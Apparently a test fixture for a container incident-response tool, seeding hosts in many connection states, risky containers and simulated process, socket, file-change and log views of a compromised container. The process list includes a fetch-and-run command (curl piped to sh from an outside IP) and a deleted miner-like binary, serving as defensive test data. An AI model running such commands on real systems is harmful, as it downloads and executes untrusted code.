"""A world that stands still, for snapshots: hosts in every state, containers of every risk, looks that are the same."""

from collections.abc import Mapping, Sequence
from datetime import UTC, datetime, timedelta
from typing import Any, cast

from irkit.app.findings import judge
from irkit.app.live import Changed, Live, LiveHost, LiveRow, LiveState
from irkit.app.looks import Look, Looks
from irkit.app.seen import Change, LogLine, Process, Socket
from irkit.core.container import Attachment, Container, Mount, Port, Summary
from irkit.core.errors import UsageError
from irkit.core.exposure import gravest_first
from irkit.core.host import Host
from tests.engine.world import attachment, container

NOW = datetime(2026, 1, 31, 14, 2, 11, tzinfo=UTC)
MONOTONIC = 1000.0
_PORT = Port(container_port=8080, protocol="tcp", host_ip="0.0.0.0", host_port=18080)


def _made(name: str, image: str, age: timedelta, host: str, *places: Attachment, **facts: Any) -> Container:
    at = f"{(NOW - age).isoformat().removesuffix('+00:00')}Z"
    return container(name, *places, image=image, host=host, created_at=at, started_at=at, **facts)


API = _made(
    "api-gw", "corp/api:2.4.1", timedelta(days=3), "prod-2", attachment("front", driver="bridge"),
    attachment("back", driver="bridge"), privileged=True, ports=(_PORT,), namespaces={"pid": "host", "network": ""},
    mounts=(Mount(kind="bind", source="/var/run/docker.sock", destination="/var/run/docker.sock"),),
    capabilities=("CAP_SYS_ADMIN",), labels={"tier": "edge"},
)  # fmt: skip
BUILD = _made(
    "build-agent-7", "corp/ci:latest", timedelta(hours=14), "prod-2", user="1000",
    mounts=(Mount(kind="bind", source="/etc", destination="/host/etc"),),
)  # fmt: skip
REDIS = _made("redis-cache", "redis:7", timedelta(days=40), "prod-1", user="999", health_check=True)
SHOP = _made("shop-front-with-a-long-name-1", "registry.corp.example/shop/front:2026.01.30-rc2", timedelta(minutes=9),
             "prod-1", user="www", ports=(_PORT,), restarts=3)  # fmt: skip
PAUSED = _made("mailer", "corp/mail:1", timedelta(days=2), "prod-1", state="paused")
EXITED = _made("migrate", "corp/api:2.4.1", timedelta(days=3), "prod-2", state="exited", user="1000")
LEGACY = _made("legacy-app", "corp/legacy:0.9", timedelta(days=900), "edge-4")
SENSOR = _made(
    "sensor", "corp/sensor:4", timedelta(days=9), "edge-4", capabilities=("CAP_NET_ADMIN",), user="10", restarts=41
)
BROKEN = LEGACY.id
ALL = (API, BUILD, REDIS, SHOP, PAUSED, EXITED, LEGACY, SENSOR)


def _row(one: Container) -> LiveRow:
    status = {"exited": "Exited (0) 3 days ago", "paused": "Up 2 days (Paused)"}.get(one.state, "Up 3 days")
    summary = Summary(
        id=one.id, name=one.name, host=one.host, image=one.image, state=one.state, created_at=one.created_at,
        labels=one.labels, status=f"{status} (healthy)" if one.health_check else status, ports=one.ports,
        networks=tuple(place.network for place in one.attachments),
    )  # fmt: skip
    if one.id == BROKEN:
        return LiveRow(
            key=one.key,
            host=one.host,
            summary=summary,
            problem="inspect failed: the engine answered 500",
            seen=MONOTONIC,
        )
    found, flags = judge(one)
    found = gravest_first(found)
    return LiveRow(
        key=one.key, host=one.host, summary=summary, facts=one, findings=found, flags=flags,
        risk=found[0].severity if found else None,
        seen=MONOTONIC,
    )  # fmt: skip


def _host(name: str, state: LiveState, **facts: Any) -> LiveHost:
    return LiveHost(name, state, **facts)


UP = {"engine": "Docker 28.5.2", "seen": MONOTONIC - 1, "as_of": NOW - timedelta(seconds=1), "engine_id": "EWQK" * 3}
HOSTS = (
    _host("prod-1", LiveState.UP, latency_ms=3.2, containers=3, running=2, free_bytes=211 << 30, address="unix", **UP),
    _host("prod-2", LiveState.SLOW, latency_ms=740.0, containers=3, running=2, free_bytes=9 << 30, **UP,
          reason="a request takes 740 ms", address="10.0.4.12", route="bastion > prod-2"),
    _host("edge-4", LiveState.STALE, reason="it did not answer within 20 s", engine="Podman 5.4.0", containers=2,
          running=2, seen=MONOTONIC - 245, as_of=NOW - timedelta(seconds=245)),
    _host("edge-5", LiveState.CONNECTING),
    _host("db-1", LiveState.AUTH, reason="no key was accepted: publickey, password are asked for"),
    _host("db-2", LiveState.KEY_UNKNOWN, reason="its key is not in known_hosts (SHA256:k2Fz...)"),
    _host("db-3", LiveState.KEY_CHANGED, reason="its key is not the one that known_hosts has, line 12"),
    _host("db-4", LiveState.KEY_REVOKED, reason="its key is revoked in known_hosts, line 14"),
    _host("lb-1", LiveState.NO_ENGINE, reason="no engine answers at /var/run/docker.sock"),
    _host("lb-2", LiveState.DOWN, reason="connection refused"),
    _host("lb-3", LiveState.LEFT_OUT, reason="hosts.yml: user is not a name"),
    _host("old-1", LiveState.API_TOO_OLD, reason="API 1.24 is too old"),
)  # fmt: skip


class _StillMonotonic:
    def monotonic(self) -> float:
        return MONOTONIC


class StillLive:
    """The list as it was seeded: nothing changes by itself."""

    def __init__(self, hosts: Sequence[LiveHost], containers: Sequence[Container]) -> None:
        self.hosts: Mapping[str, LiveHost] = {one.name: one for one in hosts}
        self.rows: Mapping[str, LiveRow] = {one.key: _row(one) for one in containers}
        self.clock = _StillMonotonic()
        self.called: list[str] = []
        self._news = Changed(rows=dict(self.rows), hosts=dict(self.hosts))

    def start(self) -> None: ...

    def close(self) -> None: ...

    def take(self) -> Changed:
        news, self._news = self._news, Changed()
        return news

    @property
    def asked_for(self) -> Mapping[str, Host]:
        return {}  # a plan connects by name

    def row(self, key: str) -> LiveRow | None:
        return self.rows.get(key)

    def refresh(self, host: str | None = None) -> None:
        self.called.append(f"refresh {host}")

    def retry(self, host: str) -> None:
        self.called.append(f"retry {host}")

    def add(self, selector: str) -> list[str]:
        self.called.append(f"add {selector}")
        return [selector]

    def target(self, host: str, deadline: object) -> object:
        raise UsageError(f"host {host} stands still")

    def as_live(self) -> Live:
        return cast("Live", self)


def _seen(value: Any, source: str = "", notes: tuple[str, ...] = ()) -> Look[Any]:
    look: Look[Any] = Look(lambda _: value)
    assert look.wait(10)
    look.as_of, look.source, look.notes = NOW, source, notes
    return look


class StillLog:
    """A log that has come to an end of what it says, and is still followed."""

    def __init__(self, lines: Sequence[LogLine]) -> None:
        self._lines = list(lines)
        self.is_over, self.error = False, ""

    def take(self, most: int = 0) -> tuple[list[LogLine], int]:
        lines, self._lines = self._lines, []
        return lines, 0

    def cancel(self) -> None: ...


PROCESSES = [
    Process(4321, 1, 0, "root", "2026-01-28T14:02:11Z", "/usr/bin/api --listen :8080", "/usr/bin/api"),
    Process(4390, 4321, 1, "root", "2026-01-31T13:51:02Z", "sh -c 'curl -s http://203.0.113.9/x | sh'", "/bin/sh"),
    Process(4391, 4390, 2, "root", "2026-01-31T13:51:03Z", "[kworker/0:1]", "/tmp/.x/kdevtmpfsi (deleted)",
            ("its executable was deleted: /tmp/.x/kdevtmpfsi",)),
    Process(4402, 4321, 1, "daemon", "2026-01-28T14:02:12Z", "/usr/bin/metrics", "/usr/bin/metrics"),
]  # fmt: skip
SOCKETS = [
    Socket("tcp", "LISTEN", "0.0.0.0:8080", "", ("api 4321",)),
    Socket("tcp", "ESTABLISHED", "172.30.0.2:51822", "203.0.113.9:443", ("kdevtmpfsi 4391",)),
    Socket("unix", "LISTEN", "/run/api.sock", "", ("api 4321",)),
]
CHANGES = [
    Change("added", "/tmp/.x/kdevtmpfsi"),
    Change("changed", "/etc/passwd"),
    Change("changed", "/etc/crontab"),
    Change("deleted", "/var/log/api.log"),
]
LOG = [
    LogLine("stdout", "2026-01-31T13:50:59.000000Z", "GET /healthz 200"),
    LogLine("stderr", "2026-01-31T13:51:01.000000Z", "POST /upload 500: template injection? \x1b[31mred\x1b[0m"),
    LogLine("stdout", "2026-01-31T13:51:04.000000Z", "x" * 300),
    LogLine("engine", "", "the log was rotated here"),
]
RAW = {
    "Id": API.id,
    "Name": "/api-gw",
    "Config": {"Env": ["PATH=/usr/bin", "DB_PASSWORD=hunter2"], "Cmd": ["/usr/bin/api", "--listen", ":8080"]},
    "HostConfig": {"Privileged": True, "Binds": ["/var/run/docker.sock:/var/run/docker.sock"]},
}


class StillLooks:
    """What each look sees, at once and always."""

    def processes(self, key: str) -> Look[list[Process]]:
        return _seen(PROCESSES, "/proc of the host")

    def sockets(self, key: str) -> Look[list[Socket]]:
        return _seen(SOCKETS)

    def changes(self, key: str) -> Look[list[Change]]:
        return _seen(CHANGES)

    def raw(self, key: str) -> Look[Any]:
        return _seen(RAW)

    def logs(self, key: str, *, tail: int, since: str = "") -> StillLog:
        return StillLog(LOG)

    def as_looks(self) -> Looks:
        return cast("Looks", self)
